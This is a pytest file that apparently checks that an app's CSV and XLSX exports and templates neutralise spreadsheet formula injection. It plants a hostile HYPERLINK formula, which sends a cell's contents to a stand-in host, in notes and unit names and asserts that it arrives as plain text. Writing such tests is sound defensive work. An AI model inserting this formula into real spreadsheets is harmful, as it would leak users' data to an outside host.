"""Every file Tavle writes for Excel neutralises formulas, with the one function in db.formulas."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from app.analysis.downloads import chart_table, csv_bytes, xlsx_bytes
from db import (
    add_entry,
    build_template,
    create_unit,
    export_file,
    find_indicator,
    make_engine,
    migrate,
    read_session,
    set_unit_indicators,
    write_session,
)
from indicators import analyze

ROOT = Path(__file__).resolve().parents[1]
TODAY = date(2026, 11, 22)
HOSTILE = '=HYPERLINK("https://ondt.example/?"&A1,"Klik")'
# The files where Excel files are made; a new writer elsewhere must come through this test.
# Excel runs a cell that starts with one of these as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
WRITERS = {"app/analysis/downloads.py", "db/csv_files.py", "db/import_templates.py",
           "db/xlsx_files.py"}


def chart_with_a_hostile_note():
    model = analyze(pd.DataFrame({"x": pd.date_range("2026-01-05", periods=12, freq="7D"),
                                  "y": [20, 21, 19, 22, 23, 20, 24, 23, 22, 21, 23, 24],
                                  "n": [25] * 12, "notes": [HOSTILE] + [None] * 11}),
                    chart="p", multiply=100)
    return chart_table(model, language="da")


def export_with_a_hostile_note(file_format):
    engine = make_engine("sqlite://")
    migrate(engine)
    with write_session(engine) as session:
        unit = create_unit("Solbakken", kind="unit", parent_id=None, session=session,
                           actor="system:test")
        triage = find_indicator("triage_dagligt", session=session).id
        add_entry(unit, triage, date(2026, 11, 20), numerator=1, denominator=2, note=HOSTILE,
                  session=session, actor="system:test", today=TODAY)
    with read_session(engine) as session:
        content = export_file(session=session, actor="system:test", file_format=file_format)
    engine.dispose()
    return content


def template_of_a_hostile_unit():
    engine = make_engine("sqlite://")
    migrate(engine)
    with write_session(engine) as session:
        unit = create_unit(HOSTILE, kind="unit", parent_id=None, session=session,
                           actor="system:test")
        triage = find_indicator("triage_dagligt", session=session).id
        set_unit_indicators(unit, [triage], session=session, actor="system:test")
    with read_session(engine) as session:
        content = build_template(unit, session=session, actor="system:test", today=TODAY)
    engine.dispose()
    return content


DOWNLOADS = {
    "Diagrammer CSV (da)": lambda: ("csv;", csv_bytes(chart_with_a_hostile_note(), language="da")),
    "Diagrammer CSV (en)": lambda: ("csv,", csv_bytes(chart_with_a_hostile_note(), language="en")),
    "Diagrammer XLSX": lambda: ("xlsx", xlsx_bytes(chart_with_a_hostile_note(), sheet="Data")),
    "export Danish CSV": lambda: ("csv;", export_with_a_hostile_note("danish-csv")),
    "export plain CSV": lambda: ("csv,", export_with_a_hostile_note("comma-csv")),
    "export XLSX": lambda: ("xlsx", export_with_a_hostile_note("xlsx")),
    "unit template XLSX": lambda: ("xlsx", template_of_a_hostile_unit()),
}


def cells(kind, content):
    """Return every cell as Excel would take it: (text, is it a formula)."""
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        return [(str(c.value), c.data_type == "f") for row in sheet.iter_rows() for c in row
                if c.value is not None]
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=kind[-1])
    return [(cell, cell.lstrip(" ")[:1] in FORMULA_STARTS) for row in rows for cell in row if cell]


@pytest.mark.parametrize("download", DOWNLOADS)
def test_a_note_that_is_a_formula_arrives_in_every_download_as_text(download):
    kind, content = DOWNLOADS[download]()
    found = cells(kind, content)
    assert any(HOSTILE in text for text, _ in found)  # the note is there...
    assert not [text for text, formula in found if formula]  # ...and is no formula


def test_only_the_known_writers_make_files_for_excel():
    makers = re.compile(r"\.to_csv\(|\.to_excel\(|\bWorkbook\(|csv\.writer\(")
    found = {str(path.relative_to(ROOT)) for folder in ("app", "db", "reports")
             for path in (ROOT / folder).rglob("*.py") if makers.search(path.read_text())}
    assert found <= WRITERS
